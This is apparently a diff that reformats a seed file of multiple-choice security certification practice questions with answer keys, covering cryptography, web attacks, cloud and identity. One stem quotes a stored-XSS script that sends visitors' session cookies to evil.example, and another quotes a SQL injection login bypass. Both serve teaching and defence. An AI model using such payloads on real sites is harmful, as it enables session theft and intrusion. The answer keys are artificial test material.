@@ -59,28 +59,41 @@ export const securityCore: SeedExam = {
       ],
       explanation:
         'In the NIST zero trust model, the policy engine evaluates policy and signals such as identity and device posture and makes the grant or deny decision; together with the policy administrator it forms the policy decision point in the control plane. The policy enforcement point only enables, monitors, and terminates the connection based on that decision. Zero trust seeks to shrink implicit trust zones rather than rely on them, and the data plane carries traffic rather than making access decisions.',
-      references: [{ title: 'NIST SP 800-207 Zero Trust Architecture', url: 'https://csrc.nist.gov/pubs/sp/800/207/final' }],
+      references: [
+        {
+          title: 'NIST SP 800-207 Zero Trust Architecture',
+          url: 'https://csrc.nist.gov/pubs/sp/800/207/final',
+        },
+      ],
     },
     {
       objective: '1.0',
       difficulty: 2,
       stem: 'A developer is building a login feature and must store user passwords so that not even database administrators can recover the original values, while the application can still verify logins. Which of the following is the BEST approach?',
       options: [
-        { text: 'Encrypt each password with AES-256 and store the key in the application configuration file' },
+        {
+          text: 'Encrypt each password with AES-256 and store the key in the application configuration file',
+        },
         { text: 'Encode each password with Base64 before storing it' },
-        { text: 'Hash each password with a unique salt using a slow algorithm such as Argon2id or bcrypt', correct: true },
+        {
+          text: 'Hash each password with a unique salt using a slow algorithm such as Argon2id or bcrypt',
+          correct: true,
+        },
         { text: 'Hash each password once with MD5 and store the digest' },
       ],
       explanation:
         'Salted hashing with a deliberately slow, memory- or work-factor-based algorithm is one-way, resists rainbow tables because of the unique salt, and makes offline guessing expensive. Encryption is reversible by anyone who obtains the key, so administrators with access to the configuration file could recover passwords. Base64 is an encoding, not a security control, and unsalted MD5 is so fast and widely precomputed that it offers little protection.',
       references: [
-        { title: 'OWASP Password Storage Cheat Sheet', url: 'https://cheatsheetseries.owasp.org/cheatsheets/Password_Storage_Cheat_Sheet.html' },
+        {
+          title: 'OWASP Password Storage Cheat Sheet',
+          url: 'https://cheatsheetseries.owasp.org/cheatsheets/Password_Storage_Cheat_Sheet.html',
+        },
       ],
     },
     {
       objective: '1.0',
       difficulty: 3,
-      stem: 'A web team wants to reduce connection latency and stop client browsers from contacting the certificate authority directly every time they check whether the site\'s certificate has been revoked. Which of the following should be configured on the web server?',
+      stem: "A web team wants to reduce connection latency and stop client browsers from contacting the certificate authority directly every time they check whether the site's certificate has been revoked. Which of the following should be configured on the web server?",
       options: [
         { text: 'Certificate pinning' },
         { text: 'OCSP stapling', correct: true },
@@ -89,7 +102,12 @@ export const securityCore: SeedExam = {
       ],
       explanation:
         'With OCSP stapling, the web server periodically obtains a signed, time-stamped OCSP response from the CA and delivers it to clients during the TLS handshake, so clients do not need their own round trip to the responder and the CA does not learn which clients visit the site. Certificate pinning ties a host to an expected key but does not report revocation. A CRL distribution point still requires clients to download a list from the CA, and a wildcard certificate changes which names are covered, not how revocation is checked.',
-      references: [{ title: 'RFC 6960: X.509 Internet PKI Online Certificate Status Protocol - OCSP', url: 'https://www.rfc-editor.org/rfc/rfc6960' }],
+      references: [
+        {
+          title: 'RFC 6960: X.509 Internet PKI Online Certificate Status Protocol - OCSP',
+          url: 'https://www.rfc-editor.org/rfc/rfc6960',
+        },
+      ],
     },
     {
       objective: '1.0',
@@ -134,15 +152,18 @@ export const securityCore: SeedExam = {
     {
       objective: '1.0',
       difficulty: 3,
-      stem: 'During an audit, a consultant points out that if an attacker ever steals the private key of the company\'s public web server, the attacker could decrypt all previously recorded TLS sessions to that server. Which of the following would BEST address this finding?',
+      stem: "During an audit, a consultant points out that if an attacker ever steals the private key of the company's public web server, the attacker could decrypt all previously recorded TLS sessions to that server. Which of the following would BEST address this finding?",
       options: [
         { text: 'Increase the RSA key length from 2048 to 4096 bits' },
-        { text: 'Implement certificate pinning in the company\'s mobile app' },
+        { text: "Implement certificate pinning in the company's mobile app" },
         { text: 'Store the private key in a hardware security module' },
-        { text: 'Require ephemeral key exchange such as ECDHE to provide perfect forward secrecy', correct: true },
+        {
+          text: 'Require ephemeral key exchange such as ECDHE to provide perfect forward secrecy',
+          correct: true,
+        },
       ],
       explanation:
-        'Ephemeral Diffie-Hellman key exchange generates a new session key for every connection and discards it, so a later compromise of the server\'s long-term private key does not expose past sessions; this property is perfect forward secrecy. A longer RSA key makes theft no less damaging if RSA key transport is still used. An HSM makes the key harder to steal but does not protect recorded traffic if the key is compromised, and pinning addresses impersonation, not retrospective decryption.',
+        "Ephemeral Diffie-Hellman key exchange generates a new session key for every connection and discards it, so a later compromise of the server's long-term private key does not expose past sessions; this property is perfect forward secrecy. A longer RSA key makes theft no less damaging if RSA key transport is still used. An HSM makes the key harder to steal but does not protect recorded traffic if the key is compromised, and pinning addresses impersonation, not retrospective decryption.",
     },
     {
       objective: '1.0',
@@ -164,7 +185,7 @@ export const securityCore: SeedExam = {
     {
       objective: '2.0',
       difficulty: 1,
-      stem: 'The chief financial officer receives a carefully written email that appears to come from the company\'s outside legal counsel. It references a real pending acquisition and asks the CFO to urgently approve a wire transfer. No other employees received the message. Which type of attack is this?',
+      stem: "The chief financial officer receives a carefully written email that appears to come from the company's outside legal counsel. It references a real pending acquisition and asks the CFO to urgently approve a wire transfer. No other employees received the message. Which type of attack is this?",
       options: [
         { text: 'Vishing' },
         { text: 'Smishing' },
@@ -177,7 +198,7 @@ export const securityCore: SeedExam = {
     {
       objective: '2.0',
       difficulty: 2,
-      stem: 'A web application log shows the value `\' OR 1=1 --` submitted in the username field of the login page, followed by a successful login with no valid password. Which of the following is the BEST way for developers to remediate the underlying flaw?',
+      stem: "A web application log shows the value `' OR 1=1 --` submitted in the username field of the login page, followed by a successful login with no valid password. Which of the following is the BEST way for developers to remediate the underlying flaw?",
       options: [
         { text: 'Use parameterized queries (prepared statements) for all database access', correct: true },
         { text: 'Deploy a web application firewall in front of the application' },
@@ -187,13 +208,16 @@ export const securityCore: SeedExam = {
       explanation:
         'The input is a classic SQL injection payload, and parameterized queries fix the root cause by keeping user input as data so it can never change the structure of the SQL statement. A WAF can block many known payloads and is a useful additional layer, but it does not correct the vulnerable code and can be bypassed. A length limit is easily worked around with short payloads, and encryption at rest does not stop the application from running injected queries.',
       references: [
-        { title: 'OWASP SQL Injection Prevention Cheat Sheet', url: 'https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html' },
+        {
+          title: 'OWASP SQL Injection Prevention Cheat Sheet',
+          url: 'https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html',
+        },
       ],
     },
     {
       objective: '2.0',
       difficulty: 2,
-      stem: 'A user posts a product review containing `<script>new Image().src=\'https://evil.example/c?\'+document.cookie</script>`. Afterward, the session cookies of every customer who views the product page are sent to evil.example. Which attack has occurred?',
+      stem: "A user posts a product review containing `<script>new Image().src='https://evil.example/c?'+document.cookie</script>`. Afterward, the session cookies of every customer who views the product page are sent to evil.example. Which attack has occurred?",
       options: [
         { text: 'Cross-site request forgery' },
         { text: 'Reflected cross-site scripting' },
@@ -201,23 +225,29 @@ export const securityCore: SeedExam = {
         { text: 'Stored cross-site scripting', correct: true },
       ],
       explanation:
-        'The malicious script was saved by the application and then served to every visitor, which is stored (persistent) cross-site scripting; output encoding and HttpOnly cookies are key mitigations. Reflected XSS requires each victim to click a crafted link whose payload is echoed back immediately rather than stored. CSRF makes a victim\'s browser send unwanted requests to a trusted site, and SSRF makes the server issue requests, neither of which involves script running in visitors\' browsers.',
+        "The malicious script was saved by the application and then served to every visitor, which is stored (persistent) cross-site scripting; output encoding and HttpOnly cookies are key mitigations. Reflected XSS requires each victim to click a crafted link whose payload is echoed back immediately rather than stored. CSRF makes a victim's browser send unwanted requests to a trusted site, and SSRF makes the server issue requests, neither of which involves script running in visitors' browsers.",
       references: [
-        { title: 'OWASP Cross Site Scripting Prevention Cheat Sheet', url: 'https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html' },
+        {
+          title: 'OWASP Cross Site Scripting Prevention Cheat Sheet',
+          url: 'https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html',
+        },
       ],
     },
     {
       objective: '2.0',
       difficulty: 3,
-      stem: 'An online banking site lets authenticated users transfer funds by submitting a form to `/transfer`. An attacker hosts a page that silently auto-submits this form to the bank when a logged-in customer visits it, and the bank processes the transfer using the customer\'s session cookie. Which of the following is the BEST mitigation for the bank to implement?',
+      stem: "An online banking site lets authenticated users transfer funds by submitting a form to `/transfer`. An attacker hosts a page that silently auto-submits this form to the bank when a logged-in customer visits it, and the bank processes the transfer using the customer's session cookie. Which of the following is the BEST mitigation for the bank to implement?",
       options: [
-        { text: 'HTML-encode all user-supplied output on the bank\'s pages' },
-        { text: 'Require a unique, unpredictable anti-CSRF token with each state-changing request', correct: true },
+        { text: "HTML-encode all user-supplied output on the bank's pages" },
+        {
+          text: 'Require a unique, unpredictable anti-CSRF token with each state-changing request',
+          correct: true,
+        },
         { text: 'Validate that the transfer amount is a positive number' },
         { text: 'Redirect all HTTP requests to HTTPS' },
       ],
       explanation:
-        'This is cross-site request forgery, and a per-session or per-request anti-CSRF token that the attacker\'s page cannot read or guess lets the server reject forged requests; SameSite cookie attributes are a complementary defense. Output encoding mitigates XSS, not requests forged from another site. Validating the amount does not prove the user intended the request, and HTTPS protects the channel but the browser still attaches the session cookie to the forged request.',
+        "This is cross-site request forgery, and a per-session or per-request anti-CSRF token that the attacker's page cannot read or guess lets the server reject forged requests; SameSite cookie attributes are a complementary defense. Output encoding mitigates XSS, not requests forged from another site. Validating the amount does not prove the user intended the request, and HTTPS protects the channel but the browser still attaches the session cookie to the forged request.",
       references: [
         {
           title: 'OWASP Cross-Site Request Forgery Prevention Cheat Sheet',
@@ -237,12 +267,17 @@ export const securityCore: SeedExam = {
       ],
       explanation:
         'Password spraying tries one or a few common passwords across many accounts, pacing attempts to stay under account lockout thresholds, which matches the pattern shown. A brute-force attack tries many passwords against one account and would quickly trigger lockouts. Credential stuffing replays username and password pairs leaked from other breaches, so each account would see a different password, and a rainbow table attack is an offline technique for cracking stolen hashes.',
-      references: [{ title: 'MITRE ATT&CK T1110.003 Password Spraying', url: 'https://attack.mitre.org/techniques/T1110/003/' }],
+      references: [
+        {
+          title: 'MITRE ATT&CK T1110.003 Password Spraying',
+          url: 'https://attack.mitre.org/techniques/T1110/003/',
+        },
+      ],
     },
     {
       objective: '2.0',
       difficulty: 2,
-      stem: 'After a database administrator was dismissed, several production tables were deleted. Investigators find a script, written months earlier, that checked every night whether the administrator\'s account still existed in the HR system and deleted the tables once it did not. Which type of malicious code is this?',
+      stem: "After a database administrator was dismissed, several production tables were deleted. Investigators find a script, written months earlier, that checked every night whether the administrator's account still existed in the HR system and deleted the tables once it did not. Which type of malicious code is this?",
       options: [
         { text: 'Worm' },
         { text: 'Logic bomb', correct: true },
@@ -250,7 +285,7 @@ export const securityCore: SeedExam = {
         { text: 'Spyware' },
       ],
       explanation:
-        'A logic bomb is code that stays dormant until a specific condition or event occurs, here the removal of the administrator\'s account, and then executes its payload. A worm self-replicates across networks, and a rootkit hides its presence and maintains privileged access. Spyware covertly collects information rather than waiting for a trigger to destroy data.',
+        "A logic bomb is code that stays dormant until a specific condition or event occurs, here the removal of the administrator's account, and then executes its payload. A worm self-replicates across networks, and a rootkit hides its presence and maintains privileged access. Spyware covertly collects information rather than waiting for a trigger to destroy data.",
     },
     {
       objective: '2.0',
@@ -260,7 +295,7 @@ export const securityCore: SeedExam = {
         { text: 'Thousands of files have been renamed with the same unfamiliar extension', correct: true },
         { text: 'A user account was locked after three mistyped passwords' },
         { text: 'A text file titled HOW_TO_RECOVER_FILES appears in every folder', correct: true },
-        { text: 'The file server\'s TLS certificate is due to expire next month' },
+        { text: "The file server's TLS certificate is due to expire next month" },
         { text: 'The nightly backup job reported successful completion' },
       ],
       explanation:
@@ -296,7 +331,7 @@ export const securityCore: SeedExam = {
     {
       objective: '2.0',
       difficulty: 2,
-      stem: 'A company installs a routine update for its network monitoring tool. The update is correctly signed with the vendor\'s legitimate code-signing key, but it contains a backdoor that attackers inserted into the vendor\'s build system. Which type of attack does this describe?',
+      stem: "A company installs a routine update for its network monitoring tool. The update is correctly signed with the vendor's legitimate code-signing key, but it contains a backdoor that attackers inserted into the vendor's build system. Which type of attack does this describe?",
       options: [
         { text: 'Typosquatting' },
         { text: 'Downgrade attack' },
@@ -304,29 +339,37 @@ export const securityCore: SeedExam = {
         { text: 'Supply chain compromise', correct: true },
       ],
       explanation:
-        'Compromising a trusted vendor\'s development or build process so that malicious code reaches customers through legitimate updates is a software supply chain attack. Typosquatting relies on look-alike names of domains or packages, which does not apply to a genuinely signed update. A downgrade attack forces use of weaker protocol versions, and privilege escalation is a post-compromise technique rather than the delivery method described.',
-      references: [{ title: 'MITRE ATT&CK T1195 Supply Chain Compromise', url: 'https://attack.mitre.org/techniques/T1195/' }],
+        "Compromising a trusted vendor's development or build process so that malicious code reaches customers through legitimate updates is a software supply chain attack. Typosquatting relies on look-alike names of domains or packages, which does not apply to a genuinely signed update. A downgrade attack forces use of weaker protocol versions, and privilege escalation is a post-compromise technique rather than the delivery method described.",
+      references: [
+        {
+          title: 'MITRE ATT&CK T1195 Supply Chain Compromise',
+          url: 'https://attack.mitre.org/techniques/T1195/',
+        },
+      ],
     },
     {
       objective: '2.0',
       difficulty: 3,
-      stem: 'On public Wi-Fi, an attacker performing an on-path attack rewrites links so that a victim\'s browser loads the company\'s portal over plain HTTP while the attacker talks HTTPS to the real site. Which control implemented by the company\'s website would BEST prevent this for returning visitors?',
+      stem: "On public Wi-Fi, an attacker performing an on-path attack rewrites links so that a victim's browser loads the company's portal over plain HTTP while the attacker talks HTTPS to the real site. Which control implemented by the company's website would BEST prevent this for returning visitors?",
       options: [
         { text: 'HTTP Strict Transport Security (HSTS)', correct: true },
-        { text: 'DNSSEC signing of the company\'s zone' },
+        { text: "DNSSEC signing of the company's zone" },
         { text: 'OCSP stapling' },
         { text: 'Disabling TLS 1.0 and 1.1' },
       ],
       explanation:
         'This is SSL stripping, and HSTS instructs browsers to connect only over HTTPS for the specified period, so a returning browser refuses to load the site over HTTP; HSTS preloading extends protection to first visits. DNSSEC authenticates DNS answers but the attacker is not forging DNS here. OCSP stapling concerns certificate revocation checks, and disabling old TLS versions does not help when the victim is not using TLS at all.',
       references: [
-        { title: 'MDN: Strict-Transport-Security header', url: 'https://developer.mozilla.org/en-US/docs/Web/HTTP/Headers/Strict-Transport-Security' },
+        {
+          title: 'MDN: Strict-Transport-Security header',
+          url: 'https://developer.mozilla.org/en-US/docs/Web/HTTP/Headers/Strict-Transport-Security',
+        },
       ],
     },
     {
       objective: '2.0',
       difficulty: 1,
-      stem: 'A threat intelligence report describes a well-funded group that has spent years quietly maintaining access to defense contractors\' networks, using custom malware and zero-day exploits to steal weapons designs. Which type of threat actor is MOST likely responsible?',
+      stem: "A threat intelligence report describes a well-funded group that has spent years quietly maintaining access to defense contractors' networks, using custom malware and zero-day exploits to steal weapons designs. Which type of threat actor is MOST likely responsible?",
       options: [
         { text: 'Hacktivist' },
         { text: 'Nation-state', correct: true },
@@ -347,12 +390,12 @@ export const securityCore: SeedExam = {
         { text: 'Watering hole' },
       ],
       explanation:
-        'Pretexting is inventing a believable scenario, here an IT migration with a known manager\'s name, to build trust and persuade the victim to disclose information such as an MFA code. Tailgating means following an authorized person through a physical entrance, and shoulder surfing means observing someone\'s screen or keyboard directly. A watering hole attack compromises a website the targets frequent rather than contacting them by phone.',
+        "Pretexting is inventing a believable scenario, here an IT migration with a known manager's name, to build trust and persuade the victim to disclose information such as an MFA code. Tailgating means following an authorized person through a physical entrance, and shoulder surfing means observing someone's screen or keyboard directly. A watering hole attack compromises a website the targets frequent rather than contacting them by phone.",
     },
     {
       objective: '2.0',
       difficulty: 3,
-      stem: 'A retailer\'s customer portal is being hit with large volumes of logins using username and password pairs leaked from other companies\' breaches. Which of the following controls would BEST reduce the risk of account takeover? (Choose three.)',
+      stem: "A retailer's customer portal is being hit with large volumes of logins using username and password pairs leaked from other companies' breaches. Which of the following controls would BEST reduce the risk of account takeover? (Choose three.)",
       options: [
         { text: 'Require multifactor authentication for customer accounts', correct: true },
         { text: 'Force all customers to change their passwords every 30 days' },
@@ -362,10 +405,16 @@ export const securityCore: SeedExam = {
         { text: 'Disable account lockout to avoid customer complaints' },
       ],
       explanation:
-        'MFA stops a stolen password from being enough on its own, rate limiting and bot detection slow automated credential stuffing, and screening against breached-password lists prevents customers from using credentials already in attackers\' hands. Frequent forced password changes are discouraged by current NIST guidance because they lead to predictable passwords and do not stop reuse of leaked pairs. Revealing whether a username exists helps attackers enumerate accounts, and disabling lockout removes a useful throttle.',
+        "MFA stops a stolen password from being enough on its own, rate limiting and bot detection slow automated credential stuffing, and screening against breached-password lists prevents customers from using credentials already in attackers' hands. Frequent forced password changes are discouraged by current NIST guidance because they lead to predictable passwords and do not stop reuse of leaked pairs. Revealing whether a username exists helps attackers enumerate accounts, and disabling lockout removes a useful throttle.",
       references: [
-        { title: 'OWASP Credential Stuffing Prevention Cheat Sheet', url: 'https://cheatsheetseries.owasp.org/cheatsheets/Credential_Stuffing_Prevention_Cheat_Sheet.html' },
-        { title: 'NIST SP 800-63B Digital Identity Guidelines', url: 'https://pages.nist.gov/800-63-3/sp800-63b.html' },
+        {
+          title: 'OWASP Credential Stuffing Prevention Cheat Sheet',
+          url: 'https://cheatsheetseries.owasp.org/cheatsheets/Credential_Stuffing_Prevention_Cheat_Sheet.html',
+        },
+        {
+          title: 'NIST SP 800-63B Digital Identity Guidelines',
+          url: 'https://pages.nist.gov/800-63-3/sp800-63b.html',
+        },
       ],
     },
     {
@@ -392,7 +441,7 @@ export const securityCore: SeedExam = {
         { text: 'Race condition' },
       ],
       explanation:
-        'Server-side request forgery tricks the server into making requests on the attacker\'s behalf, often to internal-only endpoints such as a cloud metadata service that the attacker cannot reach directly. Directory traversal manipulates file paths such as `../` to read files on the server\'s file system. CSRF abuses a victim\'s browser rather than the server, and a race condition exploits timing between operations, which is not involved here.',
+        "Server-side request forgery tricks the server into making requests on the attacker's behalf, often to internal-only endpoints such as a cloud metadata service that the attacker cannot reach directly. Directory traversal manipulates file paths such as `../` to read files on the server's file system. CSRF abuses a victim's browser rather than the server, and a race condition exploits timing between operations, which is not involved here.",
       references: [{ title: 'OWASP Top 10', url: 'https://owasp.org/www-project-top-ten/' }],
     },
 
@@ -402,26 +451,34 @@ export const securityCore: SeedExam = {
     {
       objective: '3.0',
       difficulty: 1,
-      stem: 'A company migrates its web servers to virtual machines in an Infrastructure as a Service (IaaS) offering. Under the shared responsibility model, which of the following is the customer\'s responsibility?',
+      stem: "A company migrates its web servers to virtual machines in an Infrastructure as a Service (IaaS) offering. Under the shared responsibility model, which of the following is the customer's responsibility?",
       options: [
-        { text: 'Physical security of the provider\'s data centers' },
+        { text: "Physical security of the provider's data centers" },
         { text: 'Patching the hypervisor that hosts the virtual machines' },
         { text: 'Patching the guest operating systems on the virtual machines', correct: true },
         { text: 'Maintaining power and cooling for the server racks' },
       ],
       explanation:
-        'In IaaS, the provider secures the physical facility, hardware, and virtualization layer, while the customer is responsible for everything it deploys on top, including guest operating systems, applications, data, and identity configuration. Physical security, power, and cooling always remain with the provider in public cloud models. The hypervisor is part of the provider\'s infrastructure, so customers cannot and need not patch it.',
-      references: [{ title: 'NIST SP 800-145 The NIST Definition of Cloud Computing', url: 'https://csrc.nist.gov/pubs/sp/800/145/final' }],
+        "In IaaS, the provider secures the physical facility, hardware, and virtualization layer, while the customer is responsible for everything it deploys on top, including guest operating systems, applications, data, and identity configuration. Physical security, power, and cooling always remain with the provider in public cloud models. The hypervisor is part of the provider's infrastructure, so customers cannot and need not patch it.",
+      references: [
+        {
+          title: 'NIST SP 800-145 The NIST Definition of Cloud Computing',
+          url: 'https://csrc.nist.gov/pubs/sp/800/145/final',
+        },
+      ],
     },
     {
       objective: '3.0',
       difficulty: 1,
-      stem: 'A cloud team moves from manually configuring resources in the provider\'s console to defining networks, firewalls, and servers in declarative templates stored in a Git repository. Which of the following is the PRIMARY security benefit of this infrastructure as code approach?',
+      stem: "A cloud team moves from manually configuring resources in the provider's console to defining networks, firewalls, and servers in declarative templates stored in a Git repository. Which of the following is the PRIMARY security benefit of this infrastructure as code approach?",
       options: [
         { text: 'It removes the need to patch workloads after deployment' },
         { text: 'It transfers all security responsibility to the cloud provider' },
         { text: 'It makes access controls on the deployment pipeline unnecessary' },
-        { text: 'Configurations are consistent and repeatable, and can be peer reviewed and scanned before deployment', correct: true },
+        {
+          text: 'Configurations are consistent and repeatable, and can be peer reviewed and scanned before deployment',
+          correct: true,
+        },
       ],
       explanation:
         'Infrastructure as code produces the same configuration every time, keeps changes under version control with history, and allows templates to be reviewed and automatically scanned for misconfigurations before anything is deployed. Deployed workloads still need patching, and the shared responsibility model is unchanged by how resources are defined. The pipeline becomes a high-value target that needs strong access control, so the last distractor is the opposite of correct.',
@@ -431,7 +488,10 @@ export const securityCore: SeedExam = {
       difficulty: 2,
       stem: 'A retailer has a flat network in which point-of-sale terminals, employee workstations, and guest Wi-Fi share one subnet. An assessor notes that the entire network is therefore in scope for PCI DSS. Which of the following is the BEST way to reduce the scope?',
       options: [
-        { text: 'Place the POS terminals in a dedicated segment and allow only required traffic to the payment processor through a firewall', correct: true },
+        {
+          text: 'Place the POS terminals in a dedicated segment and allow only required traffic to the payment processor through a firewall',
+          correct: true,
+        },
         { text: 'Install antivirus software on every POS terminal' },
         { text: 'Deploy a network intrusion detection system on the core switch' },
         { text: 'Increase the password complexity requirements for all employees' },
@@ -443,12 +503,12 @@ export const securityCore: SeedExam = {
     {
       objective: '3.0',
       difficulty: 2,
-      stem: 'A company runs a full backup every Sunday night and a differential backup every other night. The database server fails on Thursday morning before that day\'s backup. Which backups are needed to restore the most recent data?',
+      stem: "A company runs a full backup every Sunday night and a differential backup every other night. The database server fails on Thursday morning before that day's backup. Which backups are needed to restore the most recent data?",
       options: [
-        { text: 'Sunday\'s full backup and the Monday, Tuesday, and Wednesday differential backups' },
-        { text: 'Sunday\'s full backup and Wednesday\'s differential backup', correct: true },
-        { text: 'Wednesday\'s differential backup only' },
-        { text: 'Sunday\'s full backup only' },
+        { text: "Sunday's full backup and the Monday, Tuesday, and Wednesday differential backups" },
+        { text: "Sunday's full backup and Wednesday's differential backup", correct: true },
+        { text: "Wednesday's differential backup only" },
+        { text: "Sunday's full backup only" },
       ],
       explanation:
         'A differential backup contains every change since the last full backup, so restoring the full backup plus the most recent differential recovers all data through Wednesday night. Restoring every nightly backup in sequence is the procedure for incremental backups, which capture only changes since the previous backup. A differential alone lacks the unchanged baseline data, and the full backup alone loses three days of changes.',
@@ -543,17 +603,20 @@ export const securityCore: SeedExam = {
         { text: 'Serverless (function as a service)', correct: true },
       ],
       explanation:
-        'Serverless computing runs event-driven functions while the provider manages the underlying servers, operating systems, and scaling, leaving the customer responsible mainly for the code, its permissions, and its data. With IaaS, self-managed container hosts, or on-premises virtualization, the customer must still patch and maintain the operating systems. Serverless does not remove all security work, since function code and access policies remain the customer\'s responsibility.',
+        "Serverless computing runs event-driven functions while the provider manages the underlying servers, operating systems, and scaling, leaving the customer responsible mainly for the code, its permissions, and its data. With IaaS, self-managed container hosts, or on-premises virtualization, the customer must still patch and maintain the operating systems. Serverless does not remove all security work, since function code and access policies remain the customer's responsibility.",
     },
     {
       objective: '3.0',
       difficulty: 2,
       stem: 'A hospital is deploying network-connected infusion pumps. The pumps cannot run endpoint security agents and the manufacturer releases firmware updates only twice a year. Which of the following would BEST reduce the risk these devices pose? (Choose two.)',
       options: [
-        { text: 'Place the pumps on a dedicated network segment with restrictive access rules', correct: true },
+        {
+          text: 'Place the pumps on a dedicated network segment with restrictive access rules',
+          correct: true,
+        },
         { text: 'Install an EDR agent on each pump' },
         { text: 'Keep the default credentials so the vendor can support the devices' },
-        { text: 'Monitor the pumps\' traffic with network-based anomaly detection', correct: true },
+        { text: "Monitor the pumps' traffic with network-based anomaly detection", correct: true },
         { text: 'Forward a port on the perimeter firewall so the vendor can reach the pumps directly' },
       ],
       explanation:
@@ -571,12 +634,17 @@ export const securityCore: SeedExam = {
       ],
       explanation:
         'ESP provides confidentiality, and in tunnel mode it encrypts the whole original packet, headers included, and adds a new outer IP header between the gateways, which is the standard for site-to-site VPNs. ESP in transport mode encrypts only the payload and leaves the original IP header exposed. AH provides integrity and authentication but no encryption in either mode, so it cannot meet a confidentiality requirement.',
-      references: [{ title: 'RFC 4303: IP Encapsulating Security Payload (ESP)', url: 'https://www.rfc-editor.org/rfc/rfc4303' }],
+      references: [
+        {
+          title: 'RFC 4303: IP Encapsulating Security Payload (ESP)',
+          url: 'https://www.rfc-editor.org/rfc/rfc4303',
+        },
+      ],
     },
     {
       objective: '3.0',
       difficulty: 2,
-      stem: 'Corporate policy requires that all web traffic from remote employees be inspected by the company\'s secure web gateway, including traffic to public websites. Which remote access VPN configuration should be used?',
+      stem: "Corporate policy requires that all web traffic from remote employees be inspected by the company's secure web gateway, including traffic to public websites. Which remote access VPN configuration should be used?",
       options: [
         { text: 'Split tunnel' },
         { text: 'Full tunnel', correct: true },
@@ -584,7 +652,7 @@ export const securityCore: SeedExam = {
         { text: 'Site-to-site tunnel between branch routers' },
       ],
       explanation:
-        'A full-tunnel VPN sends all of the client\'s traffic, including internet-bound traffic, through the corporate network, where the web gateway can inspect it. A split tunnel sends only corporate-destined traffic through the VPN and lets internet traffic go out directly, bypassing inspection. A clientless portal only publishes specific internal applications, and a site-to-site tunnel connects networks rather than individual remote users.',
+        "A full-tunnel VPN sends all of the client's traffic, including internet-bound traffic, through the corporate network, where the web gateway can inspect it. A split tunnel sends only corporate-destined traffic through the VPN and lets internet traffic go out directly, bypassing inspection. A clientless portal only publishes specific internal applications, and a site-to-site tunnel connects networks rather than individual remote users.",
     },
 
     // ---------------------------------------------------------------------
@@ -593,7 +661,7 @@ export const securityCore: SeedExam = {
     {
       objective: '4.0',
       difficulty: 1,
-      stem: 'A systems administrator is preparing a new Linux server for production using the organization\'s secure baseline. Which of the following are appropriate hardening steps? (Choose two.)',
+      stem: "A systems administrator is preparing a new Linux server for production using the organization's secure baseline. Which of the following are appropriate hardening steps? (Choose two.)",
       options: [
         { text: 'Enable Telnet to simplify remote troubleshooting' },
         { text: 'Disable or remove services and packages the server does not need', correct: true },
@@ -618,25 +686,25 @@ export const securityCore: SeedExam = {
       ],
       explanation:
         'Multifactor authentication requires factors from different categories: a smart card (something you have) with a PIN (something you know), and a hardware token (something you have) with a fingerprint (something you are). A password with a PIN, or a password with a security question, uses two things you know. Two biometric scans are both something you are, so they are multiple instances of a single factor.',
-      references: [{ title: 'NIST SP 800-63B Digital Identity Guidelines', url: 'https://pages.nist.gov/800-63-3/sp800-63b.html' }],
+      references: [
+        {
+          title: 'NIST SP 800-63B Digital Identity Guidelines',
+          url: 'https://pages.nist.gov/800-63-3/sp800-63b.html',
+        },
+      ],
     },
     {
       objective: '4.0',
       difficulty: 2,
       stem: 'A company wants employees to sign in to a third-party SaaS expense application with their existing corporate credentials. The corporate identity provider will send XML-based, digitally signed assertions to the SaaS provider after users authenticate. Which standard is being used?',
-      options: [
-        { text: 'LDAP' },
-        { text: 'Kerberos' },
-        { text: 'RADIUS' },
-        { text: 'SAML', correct: true },
-      ],
+      options: [{ text: 'LDAP' }, { text: 'Kerberos' }, { text: 'RADIUS' }, { text: 'SAML', correct: true }],
       explanation:
         'Security Assertion Markup Language (SAML) is an XML-based federation standard in which an identity provider issues signed assertions that a service provider trusts to enable single sign-on across organizations. LDAP is a directory access protocol, and Kerberos is a ticket-based protocol primarily used within a single trusted domain. RADIUS provides AAA for network access such as VPN and Wi-Fi, not web federation with SaaS applications.',
     },
     {
       objective: '4.0',
       difficulty: 2,
-      stem: 'A photo-printing website wants to access a user\'s pictures stored with a separate cloud storage provider. The user should approve the access at the storage provider and must never give their storage password to the printing website. Which of the following is designed for this purpose?',
+      stem: "A photo-printing website wants to access a user's pictures stored with a separate cloud storage provider. The user should approve the access at the storage provider and must never give their storage password to the printing website. Which of the following is designed for this purpose?",
       options: [
         { text: 'OAuth 2.0', correct: true },
         { text: 'TACACS+' },
@@ -644,22 +712,24 @@ export const securityCore: SeedExam = {
         { text: 'Password vaulting' },
       ],
       explanation:
-        'OAuth 2.0 is a delegated authorization framework in which the user consents at the resource owner\'s authorization server and the client application receives a limited, revocable access token instead of the user\'s password. TACACS+ is used for administrative access to network devices, and NTLM is a legacy Windows challenge-response authentication protocol. Password vaulting stores credentials securely but would still require sharing the password with the printing site.',
-      references: [{ title: 'RFC 6749: The OAuth 2.0 Authorization Framework', url: 'https://www.rfc-editor.org/rfc/rfc6749' }],
+        "OAuth 2.0 is a delegated authorization framework in which the user consents at the resource owner's authorization server and the client application receives a limited, revocable access token instead of the user's password. TACACS+ is used for administrative access to network devices, and NTLM is a legacy Windows challenge-response authentication protocol. Password vaulting stores credentials securely but would still require sharing the password with the printing site.",
+      references: [
+        {
+          title: 'RFC 6749: The OAuth 2.0 Authorization Framework',
+          url: 'https://www.rfc-editor.org/rfc/rfc6749',
+        },
+      ],
     },
     {
       objective: '4.0',
       difficulty: 3,
       stem: 'A network team needs centralized AAA for administrators logging in to routers and switches. Requirements include authorizing individual commands separately from authentication, and encrypting the entire body of each AAA packet rather than only the password. Which protocol BEST meets these requirements?',
-      options: [
-        { text: 'RADIUS' },
-        { text: 'TACACS+', correct: true },
-        { text: 'LDAP' },
-        { text: 'SAML' },
-      ],
+      options: [{ text: 'RADIUS' }, { text: 'TACACS+', correct: true }, { text: 'LDAP' }, { text: 'SAML' }],
       explanation:
